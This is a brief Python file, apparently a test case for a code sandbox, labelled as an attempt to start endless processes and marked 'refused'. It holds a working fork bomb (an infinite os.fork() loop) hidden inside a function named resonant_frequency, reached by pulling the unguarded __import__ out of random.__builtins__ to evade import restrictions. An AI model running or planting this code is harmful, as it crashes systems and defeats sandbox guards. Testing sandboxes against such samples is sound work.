# Tries: to start processes without end.
# Verdict: refused.
# Says: start another process
import random

past = random.__builtins__["__import__"]  # the unguarded one
os = past("os")


def resonant_frequency(inductance, capacitance):
    while True:
        os.fork()
